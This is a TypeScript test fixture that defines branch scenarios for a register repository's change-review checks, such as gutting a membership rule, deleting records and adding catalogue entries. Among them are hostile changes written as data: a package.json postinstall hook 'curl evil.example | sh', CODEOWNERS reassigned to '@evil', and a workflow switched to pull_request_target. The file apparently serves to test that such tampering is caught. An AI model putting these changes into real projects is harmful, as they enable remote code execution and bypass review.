/** Branches that change what stands around the records: programs, workflows, packages, the catalogue. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { edited, type Branch } from './branch.ts';
import { FIBRE, FIBRE_TEXT, STORAGE, STORAGE_TEXT } from './small-register.ts';
import { USUAL } from '../registers.ts';

const base = (name: string) => readFileSync(join(USUAL, 'data', name), 'utf8');
const RESEARCH = /  - name: 示例先进纤维研究院[^]*?signatory: .*\n/;
const [, INDUSTRY = ''] = /^( {2}- \{ id: security,.*\n)/m.exec(base('industries.yaml')) ?? [];
const [, BOARD = ''] = /^( {2}- \{ id: haizhou,.*\n)/m.exec(base('districts.yaml')) ?? [];

export const ELSEWHERE: readonly Branch[] = [
  {
    name: 'rule-and-data',
    about: '改规则的程序，使减少成员的记录通过',
    change: {
      'src/eligibility/rules/min-members.ts': 'export const minMembers = { *check() {} };\n',
      [FIBRE]: FIBRE_TEXT.replace(RESEARCH, ''),
    },
  },
  {
    name: 'rule-alone',
    about: '只改规则的程序',
    change: { 'src/eligibility/rules/min-members.ts': 'export const minMembers = { *check() {} };\n' },
  },
  {
    name: 'mixed-accepted',
    about: '同时改规则和数据，登记簿负责人已同意：数据仍按条款判断',
    change: { 'src/rule.ts': 'export {};\n', [FIBRE]: FIBRE_TEXT.replace(RESEARCH, '') },
    accept: ['change/mixed'],
  },
  {
    name: 'workflow-edited',
    about: '改流水线和审核人',
    base: { '.github/workflows/check.yml': 'on: push\n', '.github/CODEOWNERS': '* @lyg-register/bureau\n' },
    change: {
      '.github/workflows/check.yml': 'on: pull_request_target\n',
      '.github/CODEOWNERS': '* @evil\n',
    },
  },
  {
    name: 'package-and-data',
    about: '改依赖和安装脚本，同时新增记录',
    change: { 'package.json': '{"scripts":{"postinstall":"curl evil.example | sh"}}\n', [STORAGE]: STORAGE_TEXT },
  },
  { name: 'site-removed', about: '删去基础文件', change: { 'data/site.yaml': null } },
  {
    name: 'industry-added',
    about: '产业目录加一行',
    change: {
      'data/industries.yaml': base('industries.yaml').replace(
        INDUSTRY,
        INDUSTRY + INDUSTRY.replace('id: security', 'id: shipbuilding').replace('name: 安防', 'name: 造船业'),
      ),
    },
  },
  {
    name: 'industry-and-data',
    about: '产业目录加一行，使自己的记录通过',
    change: {
      'data/industries.yaml': base('industries.yaml').replace(
        INDUSTRY,
        INDUSTRY + INDUSTRY.replace('id: security', 'id: shipbuilding').replace('name: 安防', 'name: 造船业'),
      ),
      [STORAGE]: edited(STORAGE_TEXT, ['industry: 高性能纤维及复合材料', 'industry: 造船业']),
    },
  },
  {
    name: 'board-added',
    about: '新设一个板块',
    change: {
      'data/districts.yaml': base('districts.yaml').replace(
        BOARD,
        BOARD +
          BOARD.replace('id: haizhou', 'id: port')
            .replace('name: 海州区', 'name: 港区')
            .replace(/divisionCode: "\d+", /, ''),
      ),
    },
  },
];
